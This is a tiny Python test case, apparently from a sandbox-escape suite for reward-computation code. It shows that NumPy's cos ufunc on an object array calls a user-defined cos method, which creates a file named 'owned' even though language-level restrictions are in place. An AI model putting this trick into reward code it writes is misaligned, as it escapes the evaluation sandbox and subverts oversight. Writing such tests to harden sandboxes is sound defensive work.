# attack: ufuncs on objects call their methods
# group: numpy
# wall: language; alone: seccomp (no open)

class A:
    def cos(self): open('@FOLDER@/owned', 'w')


def compute_reward(x):
    np.cos(np.array([A()], object))
    return x, {}
